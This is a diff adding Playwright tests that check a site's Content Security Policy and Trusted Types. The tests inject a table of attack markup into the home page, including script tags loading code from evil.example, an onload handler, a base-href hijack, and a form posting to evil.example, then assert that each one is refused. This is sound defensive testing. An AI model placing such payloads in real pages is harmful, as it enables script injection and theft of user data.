@@ -1,0 +1,65 @@
+import type { Page } from '@playwright/test'
+import { expect, open, ready, test } from '../helpers/site-test'
+
+// Markup that an attacker injects into a page, by the directive that refuses it.
+const attacks: Record<string, string> = {
+  'script-src-elem': '<script>owned = true</script><script src="https://evil.example/a.js"></script>',
+  'script-src-attr': '<img src="/favicon.svg" alt="" onload="owned = true">',
+  'style-src-elem': '<style>body { display: none }</style>',
+  'style-src-attr': '<p style="position: fixed">Look</p>',
+  'base-uri': '<base href="https://evil.example/">',
+  'frame-src': '<iframe src="https://evil.example/"></iframe>',
+  'img-src': '<img src="https://evil.example/a.png" alt="">',
+  'object-src': '<object data="https://evil.example/a.swf"></object>',
+  'form-action': '<form id="stolen" action="https://evil.example/" method="post"></form>',
+}
+
+/** Adds markup to the end of the home page as it is served. */
+const inject = (page: Page, markup: string) =>
+  page.route('/', async (route) => {
+    const response = await route.fetch()
+    await route.fulfill({ response, body: (await response.text()).replace('</body>', `${markup}</body>`) })
+  })
+
+test('the content policy refuses injected scripts, styles and addresses', async ({ page, browserMessages }) => {
+  await page.addInitScript(() => {
+    const refused = new Set<string>()
+    Object.assign(window, { refused })
+    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.add(effectiveDirective))
+  })
+  const asked: string[] = []
+  await page.route('https://evil.example/**', (route) => {
+    asked.push(route.request().url())
+    return route.abort()
+  })
+  await inject(page, Object.values(attacks).join(''))
+  await page.goto('/')
+  await ready(page)
+  await page.evaluate(() => (document.getElementById('stolen') as HTMLFormElement).submit())
+  const refused = () => page.evaluate(() => [...(window as unknown as { refused: Set<string> }).refused].toSorted())
+  await expect.poll(refused).toEqual(Object.keys(attacks).toSorted())
+  expect(await page.evaluate(() => 'owned' in window)).toBe(false)
+  expect(asked).toEqual([])
+  // The browser reports what it refused.
+  browserMessages.length = 0
+})
+
+test('no script can write HTML or load a script from a text', async ({ page, browserMessages }) => {
+  await open(page, '/')
+  const errors = await page.evaluate(() => {
+    const writings = [
+      () => (document.createElement('p').innerHTML = '<b>Look</b>'),
+      () => (document.createElement('script').src = '/a.js'),
+      () => Reflect.get(window, 'trustedTypes').createPolicy('mine', {}),
+    ]
+    return writings.map((write) => {
+      try {
+        return String(write())
+      } catch (error) {
+        return (error as Error).name
+      }
+    })
+  })
+  expect(errors).toEqual(['TypeError', 'TypeError', 'TypeError'])
+  browserMessages.length = 0
+})
